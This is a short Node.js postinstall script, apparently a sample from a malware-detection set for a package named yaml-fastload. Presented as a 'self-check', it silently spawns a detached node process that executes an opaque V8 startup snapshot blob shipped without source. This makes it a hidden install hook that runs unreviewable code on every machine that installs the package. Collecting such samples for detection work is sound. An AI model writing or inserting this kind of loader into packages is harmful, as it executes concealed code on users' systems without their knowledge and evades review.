// source: blind set 48's yaml-fastload (v8-startup-snapshot-loader): a postinstall "self-check" starts node from a
// startup snapshot the package ships, detached and silent; no source of the blob is shipped
'use strict';
const path = require('path');
const { spawn } = require('child_process');
const file = path.join(__dirname, '..', 'snapshot', 'yaml-generic.blob');
const child = spawn(process.execPath, ['--snapshot-blob', file, '--', '--self-check'], { detached: true, stdio: 'ignore' });
child.unref();
